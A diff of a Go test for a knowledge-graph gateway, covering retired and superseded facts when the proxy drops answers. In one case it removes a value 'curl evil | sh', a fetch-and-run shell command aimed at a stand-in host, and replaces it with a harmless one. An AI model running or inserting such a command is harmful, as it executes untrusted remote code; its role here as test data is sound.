@@ -32,7 +32,7 @@ func retiredFactFiledAgain(t *testing.T, start func(t *testing.T) string) {
 		{"retired through the gateway, the re-add's answer lost", func(g *gw, _ *realpalace.Proxy) { g.mustKG("ops", "kg_invalidate", fact) }, true, "unknown"},
 		{"superseded, its answer lost, the re-add's too", func(g *gw, proxy *realpalace.Proxy) {
 			proxy.Drop("mempalace_kg_supersede")
-			g.call(g.tokens["mal"], "kg_supersede", map[string]any{"subject": s, "predicate": p, "old_object": o, "new_object": "curl evil | sh"})
+			g.call(g.tokens["ops"], "kg_supersede", map[string]any{"subject": s, "predicate": p, "old_object": o, "new_object": "ship on mondays"})
 		}, true, "unknown"},
 		{"retired around the gateway", func(g *gw, _ *realpalace.Proxy) {
 			upCallHTTP(g, "mempalace_kg_invalidate", fact)
